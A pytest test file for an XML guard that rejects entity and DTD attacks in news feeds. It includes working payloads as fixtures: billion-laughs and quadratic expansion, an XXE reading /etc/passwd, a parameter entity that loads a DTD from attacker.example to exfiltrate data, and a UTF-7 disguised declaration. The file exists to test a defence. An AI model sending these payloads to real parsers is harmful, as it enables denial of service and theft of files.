"""Entity and DTD attacks are refused before any parser sees them (pipeline/xmlguard.py)."""

from __future__ import annotations

import codecs

import pytest

from pipeline import xmlguard
from pipeline.xmlguard import UnsafeXMLError, check

RSS = """<?xml version="1.0" encoding="utf-8"?>
<rss version="2.0"><channel><title>Harbourview Ledger</title><link>https://ledger.example/</link>
<description>Local news</description>
<item><title>Council votes on ferry schedule</title><link>https://ledger.example/ferry</link></item>
</channel></rss>"""

ATOM = """<?xml version="1.0" encoding="utf-8"?>
<feed xmlns="http://www.w3.org/2005/Atom"><title>Prairie Dispatch</title>
<entry><title>Library reopens after flood repairs</title><id>tag:dispatch.example,2026:1</id>
<link href="https://dispatch.example/library"/><updated>2026-11-18T10:15:00Z</updated></entry>
</feed>"""

RSS_091 = """<?xml version="1.0" encoding="ISO-8859-1"?>
<!DOCTYPE rss PUBLIC "-//Netscape Communications//DTD RSS 0.91//EN"
 "http://my.netscape.com/publish/formats/rss-0.91.dtd">
<rss version="0.91"><channel><title>Old Town Crier</title><link>https://crier.example/</link>
<description>Since 1999</description><language>en-ca</language>
<item><title>Caf&eacute; wins award</title><link>https://crier.example/cafe</link></item>
</channel></rss>"""


def _billion_laughs() -> str:
    lines = ['<?xml version="1.0"?>', "<!DOCTYPE lolz [", ' <!ENTITY lol "lol">']
    previous = "lol"
    for level in range(1, 10):
        lines.append(f' <!ENTITY lol{level} "{f"&{previous};" * 10}">')
        previous = f"lol{level}"
    lines += ["]>", '<rss version="2.0"><channel><title>&lol9;</title></channel></rss>']
    return "\n".join(lines)


BILLION_LAUGHS = _billion_laughs()
QUADRATIC = (
    '<?xml version="1.0"?>\n<!DOCTYPE rss [<!ENTITY a "' + "A" * 50_000 + '">]>\n'
    '<rss version="2.0"><channel><title>' + "&a;" * 50_000 + "</title></channel></rss>"
)
EXTERNAL_FILE = """<?xml version="1.0"?>
<!DOCTYPE rss [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>
<rss version="2.0"><channel><title>&xxe;</title></channel></rss>"""
PARAMETER_ENTITY = """<?xml version="1.0"?>
<!DOCTYPE rss [
  <!ENTITY % remote SYSTEM "http://attacker.example/evil.dtd">
  %remote;
]>
<rss version="2.0"><channel><title>&exfil;</title></channel></rss>"""


def _refused(body: bytes) -> str:
    with pytest.raises(UnsafeXMLError) as caught:
        check(body)
    return str(caught.value)


@pytest.mark.parametrize(
    "doc",
    [BILLION_LAUGHS, QUADRATIC, EXTERNAL_FILE, PARAMETER_ENTITY],
    ids=["laughs", "quadratic", "file", "pe"],
)
def test_entity_attacks_are_refused_with_a_message_naming_the_declaration(doc: str) -> None:
    assert "<!ENTITY" in _refused(doc.encode())


def test_parameter_entity_reference_without_declaration_is_refused() -> None:
    doc = '<?xml version="1.0"?><!DOCTYPE rss [ %shared; ]><rss version="2.0"/>'
    message = _refused(doc.encode())
    assert "parameter-entity" in message


def test_unsafe_xml_error_is_a_value_error() -> None:
    assert issubclass(UnsafeXMLError, ValueError)


@pytest.mark.parametrize(
    ("prefix", "encoding"),
    [
        (codecs.BOM_UTF16_LE, "utf-16-le"),
        (codecs.BOM_UTF16_BE, "utf-16-be"),
        (b"", "utf-16-le"),  # no BOM: recognised by "<?" as 3C 00 3F 00
        (b"", "utf-16-be"),
        (codecs.BOM_UTF32_LE, "utf-32-le"),
        (codecs.BOM_UTF8, "utf-8"),
    ],
    ids=["utf16le-bom", "utf16be-bom", "utf16le", "utf16be", "utf32le-bom", "utf8-bom"],
)
def test_attacks_are_refused_in_every_encoding_a_parser_detects(prefix: bytes, encoding: str) -> None:
    _refused(prefix + EXTERNAL_FILE.encode(encoding))
    check(prefix + RSS.encode(encoding))  # the same encoding with an ordinary feed passes


def test_attack_hidden_by_a_declared_utf7_encoding_is_refused() -> None:
    # "+ADw-" is "<" in UTF-7: libxml2 honours the declaration and would see <!ENTITY
    doc = b'<?xml version="1.0" encoding="UTF-7"?><!DOCTYPE x [+ADw-!ENTITY a "AAAA"+AD4-]><x>&a;</x>'
    _refused(doc)


def test_leading_whitespace_does_not_hide_an_attack() -> None:
    _refused(b"\n\n   \t" + BILLION_LAUGHS.split("\n", 1)[1].encode())


def test_prolog_longer_than_the_first_prefix_is_still_read() -> None:
    padding = "<!-- " + "x" * (3 * xmlguard.FIRST_PREFIX) + " -->\n"
    _refused(("<?xml version='1.0'?>\n" + padding + EXTERNAL_FILE.split("\n", 1)[1]).encode())


@pytest.mark.parametrize(
    "doc",
    [
        '<!ENTITY a "b"><rss version="2.0">&a;</rss>',  # no DOCTYPE around it
        'HTTP/1.1 200 OK\n\n<!DOCTYPE rss [<!ENTITY a "b">]><rss version="2.0">&a;</rss>',  # junk first
        '<!DOCTYPE rss SYSTEM "rss.dtd" <!ENTITY a "b">><rss version="2.0">&a;</rss>',  # broken DOCTYPE
    ],
    ids=["bare-declaration", "after-junk", "broken-doctype"],
)
def test_malformed_prologs_are_refused_when_they_declare_entities(doc: str) -> None:
    _refused(doc.encode())


def test_overlong_doctype_is_refused_without_scanning_it_all() -> None:
    declarations = "<!ELEMENT item (#PCDATA)>" * 3000  # 75,000 characters, no entities
    message = _refused(f"<!DOCTYPE rss [{declarations}]><rss/>".encode())
    assert f"over {xmlguard.MAX_DOCTYPE} characters" in message


def test_internal_subset_without_entities_is_accepted_across_prefixes() -> None:
    declarations = '<!ELEMENT item (#PCDATA)><!ATTLIST item kind CDATA "news">' * 200  # 11,600 characters
    check(f'<?xml version="1.0"?>\n<!DOCTYPE rss [{declarations}]>\n<rss version="2.0"/>'.encode())


@pytest.mark.parametrize("doc", [RSS, ATOM, RSS_091], ids=["rss", "atom", "rss091-doctype"])
def test_ordinary_feeds_are_accepted(doc: str) -> None:
    assert check(doc.encode("latin-1")) is None


@pytest.mark.parametrize(
    "doc",
    [
        '<?xml version="1.0"?>\n<!-- generated; no <!ENTITY ...> in here, nor %pe; -->\n<rss version="2.0"/>',
        '<?xml version="1.0"?><?xml-stylesheet href="style.xsl" note="<!ENTITY"?><rss version="2.0"/>',
        '<!DOCTYPE rss [<!-- an <!ENTITY in a comment ] is fine --><!ELEMENT rss ANY>]><rss version="2.0"/>',
        '<!DOCTYPE rss [<!ATTLIST rss note CDATA "50% off ] <!ENTITY">]><rss version="2.0"/>',
        '<!DOCTYPE rss SYSTEM "http://dtd.example/rss[1]>.dtd"><rss version="2.0"/>',
    ],
    ids=["comment", "processing-instruction", "comment-in-subset", "attlist-literal", "system-literal"],
)
def test_entity_text_outside_declarations_is_accepted(doc: str) -> None:
    check(doc.encode())


def test_quoted_literal_does_not_hide_a_later_declaration() -> None:
    doc = '<!DOCTYPE rss SYSTEM "http://dtd.example/a]>b.dtd" [<!ENTITY a "b">]><rss>&a;</rss>'
    _refused(doc.encode())


@pytest.mark.parametrize(
    "body",
    [
        b"",
        b"   ",
        b"<!DOCTYPE html><html><body><p>Not a feed</p></body></html>",
        b'<!DOCTYPE rss PUBLIC "-//unfin',
        b"Service unavailable. <p>Try again later.</p>",
    ],
    ids=["empty", "blank", "html", "truncated-doctype", "text"],
)
def test_documents_without_declarations_are_accepted(body: bytes) -> None:
    check(body)


def _large_feed(items: int) -> bytes:
    item = (
        "<item><title>Weekly column {n}</title><link>https://ledger.example/col/{n}</link>"
        "<description>" + "Notes from the harbour. " * 40 + "</description></item>\n"
    )
    quoted = (
        "<item><title>How XML attacks work</title><link>https://ledger.example/xml</link><description>"
        '<![CDATA[A feed must never declare <!DOCTYPE x [<!ENTITY lol "lol">]> before its root.]]>'
        "</description></item>\n"
    )
    body = "".join(item.format(n=n) for n in range(items)) + quoted
    return RSS.replace("</channel>", body + "</channel>").encode()


def test_five_megabyte_feed_is_judged_from_its_first_bytes(monkeypatch: pytest.MonkeyPatch) -> None:
    body = _large_feed(5_000)
    assert len(body) > 5_000_000
    assert b"<!ENTITY" in body[-500:]  # in a CDATA section of the last item: body text, not a DTD
    scanned: list[int] = []
    real_scan = xmlguard._scan_prolog

    def spy(text: str) -> bool:
        scanned.append(len(text))
        return real_scan(text)

    monkeypatch.setattr(xmlguard, "_scan_prolog", spy)
    check(body)
    assert scanned == [xmlguard.FIRST_PREFIX]
